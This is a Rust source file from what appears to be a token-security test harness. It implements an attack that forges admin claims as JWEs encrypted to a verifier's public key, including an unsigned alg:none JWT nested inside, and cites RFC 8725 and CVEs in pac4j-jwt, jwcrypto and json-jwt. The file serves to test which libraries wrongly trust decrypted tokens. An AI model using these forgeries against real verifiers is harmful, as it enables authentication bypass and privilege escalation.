//! Encryption taken for authentication: claims that anyone encrypts to the
//! verifier's public key.
//!
//! The flawed assumption: what decrypts has come from the issuer. With a
//! shared key that holds, since `dir` and the key wraps authenticate whoever
//! has the key. With a public key it does not: RSA-OAEP and ECDH-ES say who can
//! read, and nothing of who wrote. RFC 8725 §2.3 and §3.3 demand that a nested
//! signature is there and is verified; encryption alone is no authentication.
//! Bitten: pac4j-jwt, which believed an unsecured JWT inside a JWE
//! (CVE-2026-29000), and libraries that took a JWE where a JWS was due:
//! jwcrypto (CVE-2022-3102), json-jwt (CVE-2023-51774).
//!
//! This is a property of the format and not a bug of a library. Contenders
//! whose JWE has a public key are measured for what they are made for, secrecy;
//! here they stand as verifiers that believe what they decrypt, so that the
//! matrix shows what such a token does not promise.

use serde_json::{Map, Value};
use tokenlab_harness::exchange::PublicKey;
use tokenlab_harness::{Bound, Key};

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::card::AttackProfile;
use crate::jwe::{self, Recipient};
use crate::mint::{self, Signature};
use crate::notebook::Notebook;
use crate::scheme::{KeyManagement, Scheme};
use crate::weakness::Weakness;

pub(super) struct JwePublicKeyMint;

static PROFILE: AttackProfile = AttackProfile {
    id: "jwe-public-key-mint",
    title: "Encryption taken for authentication",
    assumption: "What decrypts with the verifier's key has come from the issuer.",
    breaks: &[Weakness::EncryptionAsAuthentication],
    references: &[
        (
            "RFC 8725 §2.3",
            "Libraries decrypt a JWE to get at a signed object and don't always verify the signature.",
        ),
        (
            "RFC 8725 §3.3",
            "Every cryptographic operation of a nested JWT is validated, inner and outer.",
        ),
        (
            "RFC 7519 §11.2",
            "Where both are needed, a token is signed and then encrypted.",
        ),
        (
            "CVE-2026-29000",
            "Maven pac4j-jwt before 4.5.9, 5.7.9 and 6.3.3 believes an unsecured JWT inside a JWE.",
        ),
        (
            "CVE-2022-3102",
            "PyPI jwcrypto before 1.4 decrypts a JWE where a signed JWT was expected.",
        ),
        ("CVE-2023-51774", "RubyGems json-jwt before 1.16.6 does the same."),
    ],
    lesson: include_str!("../../lessons/jwe-public-key-mint.md"),
};

impl Attack for JwePublicKeyMint {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        notes.step(
            "Rewrites the claims: the subject becomes admin.",
            mint::jwt_payload(view.wanted())?,
        );
        let why = match (view.scheme(), view.public_key()) {
            (Scheme::Jwe(alg, _), Some(public)) => return to_the_verifier(view, alg, public, notes),
            (Scheme::Jwt(_), _) => return to_the_issuers_rsa_key(view, notes),
            (Scheme::Jwe(..), None) => {
                "issuer and verifier share a secret, and only those two can make a token that decrypts"
            }
            (Scheme::Paseto(..), _) => {
                "PASETO encrypts with a shared key only; a public key verifies and never decrypts"
            }
            (Scheme::Biscuit, _) => "a biscuit is not encrypted, and its public keys verify",
            (Scheme::Session(_), _) => "nothing in the id of a session is decrypted",
        };
        let tried = to_the_issuers_rsa_key(view, notes)?.into_iter().map(|forgery| Forgery {
            analogue: Some(
                "a JWE under a public key that the issuer has for something else stands where the token belongs"
                    .into(),
            ),
            ..forgery
        });
        Err(CannotForge::Inexpressible {
            why: why.into(),
            tried: tried.collect(),
        })
    }
}

/// Claims, and an unsecured JWT around them, encrypted to the target's key.
fn to_the_verifier(
    view: &AttackerView<'_>,
    alg: KeyManagement,
    public: &PublicKey,
    notes: &mut Notebook,
) -> Result<Vec<Forgery>, CannotForge> {
    let variant = "claims-encrypted";
    notes.variant_step(
        variant,
        "Encrypts them to the verifier's public key, which everybody has. Nothing is signed.",
        public.kind(),
    );
    let payload = mint::jwt_payload(view.wanted())?;
    let token = match (alg, public) {
        (KeyManagement::RsaOaep256, PublicKey::Rsa(_)) => {
            jwe::seal(&recipient(public)?, &Map::new(), payload.as_bytes())?
        }
        _ => mint::seal(
            view.scheme(),
            &Key::Public(public.clone()),
            payload.as_bytes(),
            &Bound::default(),
        )?,
    };
    let mut forgeries = vec![Forgery::new(variant, token)];
    if let PublicKey::Rsa(_) = public {
        forgeries.push(nested(view, public, notes)?);
    }
    Ok(forgeries)
}

/// Both again, to the RSA key that the issuer publishes.
fn to_the_issuers_rsa_key(
    view: &AttackerView<'_>,
    notes: &mut Notebook,
) -> Result<Vec<Forgery>, CannotForge> {
    use rsa::pkcs8::DecodePublicKey;
    let public = rsa::RsaPublicKey::from_public_key_pem(&view.issuer().rsa_pem)
        .map(PublicKey::Rsa)
        .map_err(|error| CannotForge::Failed(error.to_string()))?;
    let variant = "claims-encrypted";
    notes.variant_step(
        variant,
        "Encrypts them to the RSA key that the issuer publishes. Nothing is signed.",
        view.issuer().rsa_pem.as_str(),
    );
    let payload = mint::jwt_payload(view.wanted())?;
    let token = jwe::seal(&recipient(&public)?, &Map::new(), payload.as_bytes())?;
    Ok(vec![Forgery::new(variant, token), nested(view, &public, notes)?])
}

/// An unsecured JWT inside a JWE that says there is a JWT inside.
fn nested(view: &AttackerView<'_>, public: &PublicKey, notes: &mut Notebook) -> Result<Forgery, CannotForge> {
    let variant = "unsecured-jwt-inside";
    let header = Map::from_iter([("alg".to_owned(), Value::from("none"))]);
    let inner = mint::jws(&header, view.wanted(), &Signature::Empty)?;
    notes.variant_step(
        variant,
        "Writes an unsecured JWT and encrypts that to the public key, where a signed one belongs.",
        inner.as_str(),
    );
    let outer = Map::from_iter([("cty".to_owned(), Value::from("JWT"))]);
    Ok(Forgery::new(
        variant,
        jwe::seal(&recipient(public)?, &outer, inner.as_bytes())?,
    ))
}

fn recipient(public: &PublicKey) -> Result<Recipient, CannotForge> {
    match public {
        PublicKey::Rsa(key) => Ok(Recipient::RsaOaep256(Box::new(key.clone()))),
        other => Err(CannotForge::Failed(format!(
            "{} key has no RSA-OAEP",
            other.kind()
        ))),
    }
}
